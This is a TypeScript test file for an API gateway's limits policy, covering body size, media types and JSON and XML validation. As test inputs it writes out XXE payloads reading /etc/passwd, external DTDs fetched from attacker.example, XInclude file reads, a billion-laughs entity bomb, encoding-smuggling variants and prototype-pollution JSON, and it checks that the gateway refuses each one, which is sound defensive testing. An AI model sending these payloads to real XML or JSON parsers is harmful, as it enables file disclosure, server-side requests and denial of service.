import { afterEach, describe, expect, it } from 'vitest';
import { closeAfterEach } from '../../../test/helpers/gateway.js';
import { problemOf, send, sendRaw } from '../../../test/helpers/http.js';

const use = closeAfterEach(afterEach);

async function setup(limits: Record<string, unknown> = {}) {
  const up = await use.upstream();
  const gw = await use.gateway({
    upstreams: { app: { targets: [{ url: up.url }] } },
    defaults: { limits },
    routes: [{ name: 'api', match: { path: '/api/*' }, upstream: 'app' }],
  });
  return { gw, up };
}

describe('limits policy', () => {
  it('accepts a body of exactly the limit and refuses one byte more with 413, before the upstream', async () => {
    const { gw, up } = await setup({ body: '1KiB' });
    const ok = await send(gw.url, '/api/x', { method: 'POST', body: 'a'.repeat(1024), headers: { 'content-type': 'text/plain' } });
    expect(ok.status).toBe(200);
    const over = await send(gw.url, '/api/x', { method: 'POST', body: 'a'.repeat(1025), headers: { 'content-type': 'text/plain' } });
    expect(over.status).toBe(413);
    expect(problemOf(over).code).toBe('RMP_BODY_TOO_LARGE');
    expect(up.requests.map((r) => r.body.length)).toEqual([1024]);
  });

  it('defaults to 1 MiB', async () => {
    const { gw } = await setup();
    const octets = { 'content-type': 'application/octet-stream' };
    expect((await send(gw.url, '/api/x', { method: 'PUT', body: Buffer.alloc(1024 * 1024), headers: octets })).status).toBe(200);
    expect((await send(gw.url, '/api/x', { method: 'PUT', body: Buffer.alloc(1024 * 1024 + 1), headers: octets })).status).toBe(413);
  });

  it('counts a chunked body as it streams and answers 413 past the limit', async () => {
    const { gw, up } = await setup({ body: '1KiB' });
    const chunk = (s: string) => `${s.length.toString(16)}\r\n${s}\r\n`;
    const within = await sendRaw(gw.url, `POST /api/c HTTP/1.1\r\nHost: t\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunk('a'.repeat(1000))}${chunk('b'.repeat(24))}0\r\n\r\n`);
    expect(within).toMatch(/^HTTP\/1\.1 200 /);
    expect(up.requests[0]!.body.length).toBe(1024);
    const over = await sendRaw(gw.url, `POST /api/c HTTP/1.1\r\nHost: t\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunk('a'.repeat(1000))}${chunk('b'.repeat(25))}0\r\n\r\n`);
    expect(over).toMatch(/^HTTP\/1\.1 413 /);
    expect(over).toContain('"code":"RMP_BODY_TOO_LARGE"');
    expect(up.requests).toHaveLength(1);
  });

  it('accepts only the allowed body media types (415 otherwise); XML is refused unless a route lists it', async () => {
    const { gw, up } = await setup();
    const post = (type: string | undefined, body = '{}') => send(gw.url, '/api/x', { method: 'POST', body, headers: type === undefined ? {} : { 'content-type': type } });
    for (const type of ['application/json', 'application/json; charset=utf-8', 'APPLICATION/JSON', 'application/vnd.api+json', 'text/plain;charset=utf-8', 'multipart/form-data; boundary=x']) {
      expect((await post(type)).status, type).toBe(200);
    }
    for (const type of [undefined, 'application/xml', 'text/xml', 'application/soap+xml', 'application/jsonx', 'json', 'application/json;;;=', 'text/html']) {
      const res = await post(type, '<a/>');
      expect(res.status, String(type)).toBe(415);
      expect(problemOf(res).code).toBe('RMP_UNSUPPORTED_MEDIA_TYPE');
    }
    expect(up.requests).toHaveLength(6);
    // Requests without a body need no Content-Type.
    expect((await send(gw.url, '/api/x')).status).toBe(200);
    expect((await send(gw.url, '/api/x', { method: 'DELETE' })).status).toBe(200);
  });

  it('lets a route accept XML by listing it', async () => {
    const { gw } = await setup({ contentTypes: ['application/xml', 'application/*+xml'] });
    expect((await send(gw.url, '/api/x', { method: 'POST', body: '<a/>', headers: { 'content-type': 'application/xml' } })).status).toBe(200);
    expect((await send(gw.url, '/api/x', { method: 'POST', body: '<a/>', headers: { 'content-type': 'application/atom+xml' } })).status).toBe(200);
    expect((await send(gw.url, '/api/x', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } })).status).toBe(415);
  });

  describe('JSON bodies', () => {
    const postJson = (base: string, body: string) => send(base, '/api/x', { method: 'POST', body, headers: { 'content-type': 'application/json' } });

    it('forwards a valid JSON body byte for byte', async () => {
      const { gw, up } = await setup();
      const body = '{ "a" : 1,\n"b": [ {"a": 2}, {"a": 3} ], "s": "\u00e9" }';
      expect((await postJson(gw.url, body)).status).toBe(200);
      expect(up.requests[0]!.body.toString()).toBe(body);
    });

    // Regression json-duplicate-keys-parser-differential: the checks see the last of two equal
    // keys, a first-wins parser upstream the other.
    it('refuses an object that repeats a key (escaped or not), before the upstream', async () => {
      const { gw, up } = await setup();
      for (const body of ['{"role":"admin","role":"user"}', '{"a":{"q":{"$ne":1},"q":"x"}}', '{"a":1,"\\u0061":2}']) {
        const res = await postJson(gw.url, body);
        expect(res.status, body).toBe(400);
        expect(problemOf(res).code).toBe('RMP_JSON_DUPLICATE_KEY');
      }
      expect(up.requests).toHaveLength(0);
    });

    it('refuses invalid JSON and prototype keys before the upstream', async () => {
      const { gw, up } = await setup();
      for (const [body, code] of [
        ['{"a":', 'RMP_JSON_INVALID'],
        ['{"a":1}garbage', 'RMP_JSON_INVALID'],
        ['prototype', 'RMP_JSON_INVALID'],
        ['{"__proto__":{"isAdmin":true}}', 'RMP_JSON_FORBIDDEN_KEY'],
        ['{"user":{"__proto__":{"isAdmin":true}}}', 'RMP_JSON_FORBIDDEN_KEY'],
        ['{"constructor":{"prototype":{"isAdmin":true}}}', 'RMP_JSON_FORBIDDEN_KEY'],
      ] as const) {
        const res = await postJson(gw.url, body);
        expect(res.status, body).toBe(400);
        expect(problemOf(res).code, body).toBe(code);
      }
      expect(up.requests).toHaveLength(0);
    });

    it('checks depth, keys per object and items per array at the boundary', async () => {
      const { gw, up } = await setup({ json: { depth: 3, keys: 3, items: 3 } });
      for (const [body, ok] of [
        ['[[[1]]]', true],
        ['[[[[1]]]]', false],
        ['{"a":{"b":{"c":1}}}', true],
        ['{"a":{"b":{"c":{}}}}', false],
        ['{"a":1,"b":2,"c":3}', true],
        ['{"a":1,"b":2,"c":3,"d":4}', false],
        ['[1,2,3]', true],
        ['[1,2,3,4]', false],
      ] as const) {
        const res = await postJson(gw.url, body);
        expect(res.status, body).toBe(ok ? 200 : 400);
        if (!ok) expect(problemOf(res).code, body).toBe('RMP_JSON_LIMIT_EXCEEDED');
      }
      expect(up.requests).toHaveLength(4);
    });

    it('refuses 100 000 levels of nesting quickly under the default depth of 32', async () => {
      const { gw } = await setup();
      const res = await postJson(gw.url, '['.repeat(100_000) + ']'.repeat(100_000));
      expect(res.status).toBe(400);
      expect(problemOf(res).code).toBe('RMP_JSON_LIMIT_EXCEEDED');
    });

    it('applies the body limit while reading a chunked JSON body', async () => {
      const { gw, up } = await setup({ body: '1KiB' });
      const json = JSON.stringify({ a: 'x'.repeat(2000) });
      const answer = await sendRaw(gw.url, `POST /api/c HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${json.length.toString(16)}\r\n${json}\r\n0\r\n\r\n`);
      expect(answer).toMatch(/^HTTP\/1\.1 413 /);
      expect(up.requests).toHaveLength(0);
    });
  });

  describe('XML bodies', () => {
    const XML = ['application/xml', 'text/xml', 'application/*+xml'];
    const postXml = (base: string, body: string | Buffer, type = 'application/xml') => send(base, '/api/x', { method: 'POST', body, headers: { 'content-type': type } });
    const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
    const lol = (n: number) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`;
    // 10 levels of 10: `&lol9;` expands to 10^9 "lol"s, 3 GB, if anything expands it.
    const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from({ length: 9 }, (_, i) => lol(i + 1)).join('')}]><lolz>&lol9;</lolz>`;
    const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();
    const nest = (depth: number, leaf = 'x') => '<a>'.repeat(depth) + leaf + '</a>'.repeat(depth);

    it('forwards a well-formed XML body byte for byte', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      const doc = Buffer.from('\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<!-- a comment -->\n<order id="7" xmlns:x="urn:x"><x:item q=\'2\'>caf\u00e9 &amp; &#233; &lt;</x:item><![CDATA[<b>raw</b>]]><empty/></order>\n', 'utf8');
      for (const type of ['application/xml', 'text/xml; charset=UTF-8', 'application/soap+xml; charset=utf-8', 'application/atom+xml']) {
        const res = await postXml(gw.url, doc, type);
        expect(res.status, type).toBe(200);
      }
      expect(up.requests).toHaveLength(4);
      for (const r of up.requests) expect(r.body.equals(doc)).toBe(true);
      const ascii = '<?xml version="1.0" encoding="us-ascii"?><a>plain</a>';
      expect((await postXml(gw.url, ascii, 'application/xml; charset=US-ASCII')).status).toBe(200);
      expect(up.requests[4]!.body.toString('latin1')).toBe(ascii);
    });

    it('accepts elements named __proto__, constructor and prototype (valid XML; the parser would throw on them)', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      const doc = '<r __proto__="1"><__proto__><constructor><prototype/></constructor></__proto__><hasOwnProperty/></r>';
      expect((await postXml(gw.url, doc)).status).toBe(200);
      expect(up.requests[0]!.body.toString()).toBe(doc);
    });

    it('refuses the classic XXE file read with 400 RMP_XML_FORBIDDEN, before the upstream', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      const res = await postXml(gw.url, xxe);
      expect(res.status).toBe(400);
      expect(problemOf(res).code).toBe('RMP_XML_FORBIDDEN');
      expect(res.text).not.toContain('root:');
      expect(up.requests).toHaveLength(0);
    });

    it('refuses billion laughs with 400 in bounded time and memory', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      await postXml(gw.url, '<warm-up/>');
      const heapBefore = process.memoryUsage().heapUsed;
      const started = performance.now();
      const res = await postXml(gw.url, billionLaughs);
      const elapsed = performance.now() - started;
      const heapGrowth = process.memoryUsage().heapUsed - heapBefore;
      expect(res.status).toBe(400);
      expect(problemOf(res).code).toBe('RMP_XML_FORBIDDEN');
      expect(up.requests).toHaveLength(1);
      // Refused by the DTD search before any parsing: measured 1.1–1.5 ms and +0.06 MB of heap over
      // five runs on a 2-core box. The bounds are generous on purpose.
      expect(elapsed).toBeLessThan(1000);
      expect(heapGrowth).toBeLessThan(50 * 1024 * 1024);
    });

    it('refuses every DTD construct and XInclude, in any case or disguise', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      for (const body of [
        '<!doctype foo [<!entity xxe system "file:///etc/passwd">]><foo>&xxe;</foo>',
        '<!DocType foo SYSTEM "http://attacker.example/x.dtd"><foo/>',
        '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><foo/>',
        '<foo><!ENTITY x "y"></foo>',
        '<foo><!ELEMENT foo ANY></foo>',
        '<foo><![INCLUDE[ <!ENTITY x "y"> ]]></foo>',
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></foo>',
        '<foo xmlns:xi="http://www.w3.org/2003/XInclude"><xi:include href="/etc/passwd"/></foo>',
        '<foo xmlns:xi="http://www.w3.org/2001/&#88;Include"><xi:include href="/etc/passwd"/></foo>',
        '<foo xmlns:xi="http://www.w3.org/2001/&#x58;&#x49;nclude"><xi:include href="/etc/passwd"/></foo>',
        // Documented false positives: the search is over the raw text.
        '<foo><!-- <!DOCTYPE html> --></foo>',
        '<foo><![CDATA[<!DOCTYPE html>]]></foo>',
      ]) {
        const res = await postXml(gw.url, body);
        expect(res.status, body).toBe(400);
        expect(problemOf(res).code, body).toBe('RMP_XML_FORBIDDEN');
      }
      expect(up.requests).toHaveLength(0);
    });

    it('refuses encodings an upstream could read differently from the gateway (encoding smuggling)', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      const utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE foo +AFs-+ADw-!ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-foo+AD4-+ACY-xxe;+ADw-/foo+AD4-';
      for (const [name, body] of [
        ['UTF-16LE with BOM', Buffer.from(`\uFEFF${xxe}`, 'utf16le')],
        ['UTF-16LE without BOM', Buffer.from(xxe, 'utf16le')],
        ['UTF-16BE with BOM', utf16be(`\uFEFF${xxe}`)],
        ['UTF-16BE without BOM', utf16be(xxe)],
        ['UTF-16 declared', Buffer.from('<?xml version="1.0" encoding="UTF-16"?><foo/>')],
        ['UTF-32 with BOM', Buffer.concat([Buffer.from([0, 0, 0xfe, 0xff]), Buffer.from('\0\0\0<')])],
        ['UTF-7 declared', Buffer.from(utf7)],
        ['ISO-8859-1 declared', Buffer.from("<?xml version='1.0' encoding='iso-8859-1'?><foo/>")],
        ['two encodings', Buffer.from('<?xml version="1.0" encoding="UTF-8" encoding="UTF-16"?><foo/>')],
        ['unquoted encoding', Buffer.from('<?xml version="1.0" encoding=UTF-16?><foo/>')],
        ['unterminated declaration', Buffer.from('<?xml version="1.0" encoding="UTF-8"<foo/>')],
        ['EBCDIC', Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93])],
        ['not starting with <', Buffer.from('x<foo/>')],
        ['empty after whitespace', Buffer.from(' \r\n')],
        ['NUL', Buffer.from('<foo>\0</foo>')],
        ['control character', Buffer.from('<foo>\u0001</foo>')],
        ['invalid UTF-8', Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])],
        ['non-ASCII declared US-ASCII', Buffer.from('<?xml version="1.0" encoding="US-ASCII"?><foo>\u00e9</foo>')],
      ] as const) {
        const res = await postXml(gw.url, body);
        expect(res.status, name).toBe(400);
        expect(problemOf(res).code, name).toBe('RMP_XML_INVALID');
      }
      for (const type of ['application/xml; charset=utf-16', 'text/xml; charset=UTF-7', 'application/xml; charset=iso-8859-1', 'application/xml; charset=utf-8; charset=utf-16']) {
        const res = await postXml(gw.url, '<foo/>', type);
        expect(res.status, type).toBe(415);
        expect(problemOf(res).code, type).toBe('RMP_UNSUPPORTED_MEDIA_TYPE');
      }
      expect(up.requests).toHaveLength(0);
    });

    it('refuses malformed XML with 400 RMP_XML_INVALID', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      for (const body of ['<a>', '<a></b>', '<a><b></a></b>', '<a/><b/>', '<a></a><b></b>', 'text', '<a b=1/>', '<a b="1" b="2"/>', '<a>&</a>', '< a/>', '<a></a>trailing']) {
        const res = await postXml(gw.url, body);
        expect(res.status, body).toBe(400);
        expect(problemOf(res).code, body).toBe('RMP_XML_INVALID');
      }
      expect(up.requests).toHaveLength(0);
    });

    it('allows 32 levels of elements by default and refuses 33 with RMP_XML_LIMIT_EXCEEDED', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      for (const [body, ok] of [
        [nest(32), true],
        [nest(31, '<b/>'), true],
        [nest(33), false],
        [nest(32, '<b/>'), false],
        [nest(34), false],
      ] as const) {
        const res = await postXml(gw.url, body);
        expect(res.status, body).toBe(ok ? 200 : 400);
        if (!ok) expect(problemOf(res).code, body).toBe('RMP_XML_LIMIT_EXCEEDED');
      }
      expect(up.requests).toHaveLength(2);
    });

    it('applies limits.xml.depth', async () => {
      const { gw } = await setup({ contentTypes: XML, xml: { depth: 2 } });
      expect((await postXml(gw.url, '<a><b>x</b><b/></a>')).status).toBe(200);
      expect(problemOf(await postXml(gw.url, '<a><b><c/></b></a>')).code).toBe('RMP_XML_LIMIT_EXCEEDED');
    });

    it('refuses 100 000 levels of nesting quickly', async () => {
      const { gw, up } = await setup({ contentTypes: XML });
      await postXml(gw.url, '<warm-up/>');
      const heapBefore = process.memoryUsage().heapUsed;
      const started = performance.now();
      const res = await postXml(gw.url, nest(100_000));
      const elapsed = performance.now() - started;
      const heapGrowth = process.memoryUsage().heapUsed - heapBefore;
      expect(res.status).toBe(400);
      expect(problemOf(res).code).toBe('RMP_XML_LIMIT_EXCEEDED');
      expect(up.requests).toHaveLength(1);
      // 700 KB of body, cut off by the parser at 34 open elements: measured 4.6–6.0 ms and +2.1 MB of
      // heap (mostly the body itself) over five runs on a 2-core box.
      expect(elapsed).toBeLessThan(1000);
      expect(heapGrowth).toBeLessThan(50 * 1024 * 1024);
    });

    it('applies the body limit while reading a chunked XML body', async () => {
      const { gw, up } = await setup({ contentTypes: XML, body: '1KiB' });
      const doc = `<a>${'x'.repeat(2000)}</a>`;
      const answer = await sendRaw(gw.url, `POST /api/c HTTP/1.1\r\nHost: t\r\nContent-Type: application/xml\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${doc.length.toString(16)}\r\n${doc}\r\n0\r\n\r\n`);
      expect(answer).toMatch(/^HTTP\/1\.1 413 /);
      expect(up.requests).toHaveLength(0);
    });

    it('still refuses XML, XXE or not, with 415 on a route that does not list it', async () => {
      const { gw, up } = await setup();
      for (const [type, body] of [['application/xml', '<a/>'], ['text/xml', xxe], ['application/soap+xml', billionLaughs]] as const) {
        const res = await postXml(gw.url, body, type);
        expect(res.status, type).toBe(415);
        expect(problemOf(res).code, type).toBe('RMP_UNSUPPORTED_MEDIA_TYPE');
      }
      expect(up.requests).toHaveLength(0);
    });
  });

  it('refuses a request target one byte over the URL limit with 414', async () => {
    const { gw, up } = await setup({ url: 100 });
    const at = '/api/' + 'x'.repeat(95);
    expect(at.length).toBe(100);
    expect((await send(gw.url, at)).status).toBe(200);
    const over = await send(gw.url, at + 'y');
    expect(over.status).toBe(414);
    expect(problemOf(over).code).toBe('RMP_URL_TOO_LONG');
    expect(up.requests).toHaveLength(1);
  });

  it('refuses more header fields than the limit with 431', async () => {
    const { gw, up } = await setup({ headers: 10 });
    const fields = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`x-h${i}`, 'v']));
    // node:http adds Host and Connection: 8 + 2 = 10 fields.
    expect((await send(gw.url, '/api/x', { headers: fields(8) })).status).toBe(200);
    const over = await send(gw.url, '/api/x', { headers: fields(9) });
    expect(over.status).toBe(431);
    expect(problemOf(over).code).toBe('RMP_REQUEST_HEADERS_TOO_LARGE');
    expect(up.requests).toHaveLength(1);
  });
});
